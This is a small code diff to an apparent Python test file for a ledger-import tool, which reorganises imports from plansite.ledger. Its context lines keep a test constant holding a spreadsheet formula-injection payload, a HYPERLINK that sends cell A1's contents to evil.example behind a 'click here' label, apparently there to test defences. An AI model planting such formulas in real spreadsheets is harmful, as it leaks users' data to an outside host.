@@ -10,7 +10,9 @@ import zipfile
 import pytest
 from openpyxl import load_workbook
 
-from plansite import build, ledger_import, ledger_read
+from plansite import build
+from plansite.ledger import merge as ledger_import
+from plansite.ledger import read as ledger_read
 from tests.test_ledger import SAMPLE, fill, ledger, run_import
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"点此")'
